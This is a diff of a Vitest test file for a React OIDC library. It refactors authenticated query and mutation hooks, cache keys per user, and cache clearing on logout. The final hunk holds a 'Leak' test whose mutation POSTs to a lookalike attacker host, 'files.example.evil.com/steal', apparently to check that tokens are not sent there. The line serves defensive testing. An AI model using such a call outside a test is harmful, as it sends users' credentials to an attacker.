@@ -4,8 +4,9 @@ import { StrictMode, Suspense, type ReactNode } from "react";
 import { afterEach, describe, expect, it, vi } from "vitest";
 import { OidcProvider } from "../../../src/react/OidcProvider";
 import {
-  AuthedQueryCacheGuard,
+  authedQueryKey,
   authedQueryOptions,
+  connectQueryClient,
   useAuthedMutation,
   useAuthedQuery,
   useAuthedSuspenseQuery,
@@ -17,18 +18,21 @@ type Api = "app" | "files";
 const clients = { app: {}, files: { resource: "https://files.example", baseUrls: ["https://files.example/"] } };
 
 const queryClients: QueryClient[] = [];
+const disconnects: (() => void)[] = [];
 afterEach(() => {
   cleanup();
+  for (const disconnect of disconnects.splice(0)) disconnect();
   for (const client of queryClients.splice(0)) client.clear();
 });
 
 function renderWith(oidc: MockOidc<Api>, ui: ReactNode, queryClient = new QueryClient({ defaultOptions: { queries: { retry: false } } })) {
   queryClients.push(queryClient);
+  // The one way to tie the cache to the session: once, next to the instance and the client.
+  disconnects.push(connectQueryClient(oidc, queryClient));
   render(
     <StrictMode>
       <QueryClientProvider client={queryClient}>
         <OidcProvider oidc={oidc}>
-          <AuthedQueryCacheGuard />
           {ui}
         </OidcProvider>
       </QueryClientProvider>
@@ -47,7 +51,8 @@ function ownerEcho() {
 }
 
 function Owner({ fetchImpl }: { fetchImpl: typeof fetch }) {
-  const query = useAuthedQuery("files", {
+  const query = useAuthedQuery({
+    api: "files",
     queryKey: ["owner"],
     fetch: fetchImpl,
     queryFn: async ({ fetch }) => (await fetch("https://files.example/owner")).json() as Promise<{ owner: string }>,
@@ -75,9 +80,9 @@ describe("useAuthedQuery", () => {
     expect(start).toHaveBeenCalled();
     expect(stub.requests).toHaveLength(1);
     // The query under the "nobody" key (rendered before the restoration) never ran.
-    const anonymous = queryClient.getQueryCache().getAll().filter((q) => q.queryKey[2] === null);
+    const anonymous = queryClient.getQueryCache().findAll({ queryKey: [{ authedApi: "files", sub: null }] });
     expect(anonymous.every((q) => q.state.dataUpdatedAt === 0 && q.state.errorUpdatedAt === 0 && q.state.fetchStatus === "idle")).toBe(true);
-    expect(queryClient.getQueryData(["react-oidc-apis", "files", "alice", "owner"])).toEqual({ owner: "alice" });
+    expect(queryClient.getQueryData([{ authedApi: "files", sub: "alice" }, "owner"])).toEqual({ owner: "alice" });
   });
 
   it("switches to the new user's key (and data) when the user changes", async () => {
@@ -88,7 +93,7 @@ describe("useAuthedQuery", () => {
     act(() => oidc.loginAs({ sub: "bob" }));
     expect(await screen.findByText("owner:bob")).toBeTruthy();
     const keys = queryClient.getQueryCache().getAll().map((q) => q.queryKey);
-    expect(keys).toEqual([["react-oidc-apis", "files", "bob", "owner"]]);
+    expect(keys).toEqual([[{ authedApi: "files", sub: "bob" }, "owner"]]);
   });
 
   it("does not re-render for another API's token renewal", async () => {
@@ -108,7 +113,7 @@ describe("useAuthedQuery", () => {
     expect(renders).toBe(before);
   });
 
-  it("removes the cache on logout through <AuthedQueryCacheGuard>", async () => {
+  it("removes the cache on logout through connectQueryClient", async () => {
     const oidc = createMockOidc({ clients, user: { sub: "alice" } });
     const stub = ownerEcho();
     const queryClient = renderWith(oidc, <Owner fetchImpl={stub.fetch} />);
@@ -117,8 +122,9 @@ describe("useAuthedQuery", () => {
       void oidc.logout();
       await oidc.whenSettled();
     });
-    const authed = queryClient.getQueryCache().getAll().filter((q) => q.queryKey[0] === "react-oidc-apis" && q.queryKey[2] === "alice");
-    expect(authed).toEqual([]);
+    // A still-mounted observer may re-create the key for "nobody"; nothing of alice's stays.
+    expect(queryClient.getQueryCache().findAll({ queryKey: authedQueryKey("files") }).filter((q) => q.state.data !== undefined)).toEqual([]);
+    expect(queryClient.getQueryCache().findAll({ queryKey: [{ authedApi: "files", sub: "alice" }] })).toEqual([]);
   });
 
   it("throws a clear error outside <OidcProvider>", () => {
@@ -142,6 +148,7 @@ describe("useAuthedSuspenseQuery", () => {
     const oidc = createMockOidc({ clients, user: { sub: "alice" } });
     const stub = ownerEcho();
     const options = {
+      api: "files" as const,
       queryKey: ["owner"],
       fetch: stub.fetch,
       queryFn: async ({ fetch }: { fetch: typeof globalThis.fetch }) =>
@@ -149,9 +156,9 @@ describe("useAuthedSuspenseQuery", () => {
     };
     const queryClient = new QueryClient();
     // What a route loader does; the component must then not fetch again.
-    await queryClient.ensureQueryData(authedQueryOptions(oidc, "files", options));
+    await queryClient.ensureQueryData(authedQueryOptions(oidc, options));
     function Reader() {
-      const { data } = useAuthedSuspenseQuery("files", options);
+      const { data } = useAuthedSuspenseQuery(options);
       return <p>suspense:{data.owner}</p>;
     }
     renderWith(
@@ -172,7 +179,8 @@ describe("useAuthedMutation", () => {
     const stub = stubFetch((_request, index) => (index === 0 ? new Response(null, { status: 401 }) : json({ saved: true })));
     const seen: { name?: string; accessToken?: string } = {};
     function Save() {
-      const mutation = useAuthedMutation("files", {
+      const mutation = useAuthedMutation({
+        api: "files",
         fetch: stub.fetch,
         mutationFn: async (name: string, { accessToken, fetch }) => {
           Object.assign(seen, { name, accessToken });
@@ -198,7 +206,8 @@ describe("useAuthedMutation", () => {
     const oidc = createMockOidc({ clients, user: { sub: "alice" } });
     const stub = stubFetch(() => json({}));
     function Leak() {
-      const mutation = useAuthedMutation("files", {
+      const mutation = useAuthedMutation({
+        api: "files",
         fetch: stub.fetch,
         mutationFn: async (_: void, { fetch }) => fetch("https://files.example.evil.com/steal", { method: "POST" }),
       });
